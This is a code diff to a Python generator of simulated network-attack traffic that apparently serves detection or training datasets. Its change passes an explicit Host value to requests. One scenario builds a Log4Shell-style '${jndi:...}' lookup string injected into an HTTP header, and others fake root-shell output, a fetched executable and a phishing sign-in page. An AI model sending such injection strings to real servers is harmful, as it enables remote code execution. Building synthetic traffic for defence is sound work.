@@ -46,9 +46,9 @@ def _answer_number(lesson: Dialogue) -> int:
     )
 
 
-def _get(stage: Stage, target: str, headers: Mapping[str, str] | None = None) -> bytes:
+def _get(stage: Stage, target: str, host: str, headers: Mapping[str, str] | None = None) -> bytes:
     fields = {"User-Agent": stage.choose("agent"), "Accept": "*/*", **(headers or {})}
-    return http.write_http_request("GET", target, stage.choose("host_field"), fields)
+    return http.write_http_request("GET", target, host, fields)
 
 
 def _reply(stage: Stage, status: int, body: bytes, kind: str = "text/html") -> bytes:
@@ -81,7 +81,7 @@ def _looked_up(stage: Stage) -> tuple[Dialogue, int]:
 def play_string_for_a_logger(stage: Stage) -> Simulation:
     """T086: a string that an old logging library would follow; the server answers 400 and calls nobody."""
     string = f"${{jndi:{stage.choose('scheme')}://{stage.host('client').ip}:{stage.choose('port')}/{stage.choose('name')}}}"
-    request = _get(stage, stage.choose("target"), {"X-Api-Version": string})
+    request = _get(stage, stage.choose("target"), stage.host("server").ip, {"X-Api-Version": string})
     lesson = _exchange(
         stage, request, _reply(stage, 400, b"<h1>Bad Request</h1>\n"), {"path": stage.choose("target")}
     )
@@ -94,7 +94,7 @@ def play_page_that_says_root(stage: Stage) -> Simulation:
     body = b"uid=0(root) gid=0(root) groups=0(root)\n"
     lesson = _exchange(
         stage,
-        _get(stage, stage.choose("target")),
+        _get(stage, stage.choose("target"), stage.host("server").name),
         _reply(stage, 200, body, "text/plain"),
         {"path": stage.choose("target")},
         after_ns,
@@ -107,7 +107,7 @@ def play_program_fetched(stage: Stage) -> Simulation:
     body = b"MZ" + stage.noise.child("program").take(stage.number("kilobytes") * 1000)
     lesson = _exchange(
         stage,
-        _get(stage, stage.choose("target")),
+        _get(stage, stage.choose("target"), stage.host("server").ip),
         _reply(stage, 200, body, "application/x-dosexec"),
         {"path": stage.choose("target")},
     )
@@ -120,7 +120,7 @@ def play_form_sent(stage: Stage) -> Simulation:
     server = stage.host("server")
     page = _exchange(
         stage,
-        _get(stage, "/"),
+        _get(stage, "/", server.name),
         _reply(
             stage, 200, b"<title>CORP sign in</title>" + stage.noise.child("page").take(900).hex().encode()
         ),
